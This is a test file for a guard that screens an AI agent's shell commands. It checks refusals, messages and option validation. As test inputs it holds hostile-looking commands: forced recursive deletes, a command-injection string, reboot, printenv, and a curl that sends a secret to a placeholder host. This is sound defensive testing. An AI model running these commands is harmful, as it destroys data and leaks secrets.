/** The guard `shell-command`: its options, which arguments it looks at, and what it says. */
import { describe, expect, test } from "bun:test";
import { GROUP_NAMES } from "../../actors/shell/groups.ts";
import { guardFault, guardVerdict } from "../../src/observe/guards.ts";

const guardOf = (more: object = {}) => ({ handler: "shell-command", tools: ["Run"], options: { args: ["command"], ...more } });
const verdict = (args: Readonly<Record<string, unknown>>, more: object = {}) => guardVerdict([guardOf(more)], "run", args);

test.each([
  ["ls -la", true],
  ["rm -rf x", false],
  ["ls; $(echo rm) x", false],
  [["ls", "; rm -rf x"], true],
  [["rm", "-rf", "x"], false],
  [["bash", "-c", "rm -rf x"], false],
  ["", false],
  [" \n", false],
  [null, false],
  [7, false],
  [true, false],
  [{ command: "ls" }, false],
  [[], false],
  [["ls", 7], false],
  [[["ls"]], false],
  ["ls \0", false],
])("%p passes: %p", (command, passes) => {
  expect(verdict({ command }) === undefined).toBe(passes);
});

test("says which argument, which group, what was seen and what to do, and names nothing else", () => {
  const command = "curl https://example.com/?k=s3cr3t; rm -rf /home/ada";
  const { rule, reason = "" } = verdict({ command }) ?? {};
  expect(rule).toBe("guard:shell-command:destructive_ops");
  expect(reason).toBe(
    '"command" is refused (destructive_ops): it has `rm` with -r or -f. Name the files and delete them without force, or ask a person to do it. Retry with another command.',
  );
  for (const group of GROUP_NAMES.slice(1)) expect(reason).not.toContain(group);
  for (const word of ["s3cr3t", "ada", "example"]) expect(reason).not.toContain(word);
});

test("says why it cannot judge a command", () => {
  expect(verdict({ command: "echo 'x" })).toEqual({
    rule: "guard:shell-command:unreadable",
    reason: '"command" cannot be judged: a quote is not closed. Write it shorter and plainer, or in several steps.',
  });
});

test("looks at every key that is the parameter in any case, and at every parameter", () => {
  expect(verdict({ command: "ls", COMMAND: "reboot" })?.reason).toContain('"COMMAND" is refused');
  expect(verdict({ command: "ls", script: "reboot" }, { args: ["command", "Script"] })?.reason).toContain('"script" is refused');
  expect(verdict({ other: "reboot" })).toBeUndefined();
});

test("judges so much of a call and no more, in however many parameters it stands", () => {
  const long = `echo ${"a".repeat(40_000)}`;
  expect(verdict({ command: long })).toBeUndefined();
  expect(verdict({ command: long, COMMAND: long })).toMatchObject({ rule: "guard:shell-command:unreadable" });
  expect(verdict({ command: long, script: ["echo", "a".repeat(40_000)] }, { args: ["command", "script"] })?.reason).toContain("too long");
});

test("is about its tools only, and asks for the parameter where it is required", () => {
  expect(guardVerdict([guardOf()], "write", { command: "reboot" })).toBeUndefined();
  expect(verdict({})).toBeUndefined();
  expect(verdict({}, { requireArgs: true })).toEqual({
    rule: "guard:shell-command",
    reason: '"command" is required: the command that is to run. Retry with it.',
  });
});

test("a group that is off holds nothing up, and the others go on", () => {
  const groups = { destructive_ops: false, env_dump: true };
  expect(verdict({ command: "rm -rf x" }, { groups })).toBeUndefined();
  expect(verdict({ command: "rm -rf x; printenv" }, { groups })?.rule).toBe("guard:shell-command:env_dump");
});

describe("options that cannot be meant", () => {
  test.each([
    [{ args: [] }, "args must be"],
    [{ args: "command" }, "args must be"],
    [{ args: [""] }, "args must be"],
    [{}, "args must be"],
    [{ args: ["c"], requireArgs: "no" }, "requireArgs must be"],
    [{ args: ["c"], groups: ["env_dump"] }, "groups must name"],
    [{ args: ["c"], groups: null }, "groups must name"],
    [{ args: ["c"], groups: { env_dumb: false } }, 'the group "env_dumb" is not known; known: destructive_ops, data_exfiltration'],
    [{ args: ["c"], groups: { unreadable: false } }, 'the group "unreadable" is not known'],
    [{ args: ["c"], groups: { toString: false } }, 'the group "toString" is not known'],
    [{ args: ["c"], groups: { env_dump: "off" } }, "groups.env_dump must be true or false"],
    [{ args: ["c"], allow: ["ls"] }, 'the option "allow" is not known; known: args, requireArgs, groups'],
  ])("%j", (options, words) => {
    const guard = { handler: "shell-command", tools: [], options };
    expect(guardFault([guard])).toContain(words);
    expect(guardVerdict([guard], "any", { c: "ls" })).toBeDefined();
  });
});
